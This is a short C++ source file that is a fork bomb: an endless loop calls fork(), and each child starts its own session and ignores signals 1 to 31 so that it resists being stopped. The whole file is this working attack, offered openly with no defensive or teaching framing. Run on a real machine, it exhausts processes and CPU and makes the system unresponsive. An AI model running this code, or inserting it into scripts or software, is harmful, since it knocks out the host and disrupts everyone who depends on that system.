// Forks in the tightest loop there is, with every child in a session of its own that ignores the polite signals.
#include <csignal>
#include <unistd.h>

int main() {
  for (;;) {
    if (fork() == 0) {
      setsid();
      for (int number = 1; number < 32; number++) std::signal(number, SIG_IGN);
    }
  }
}
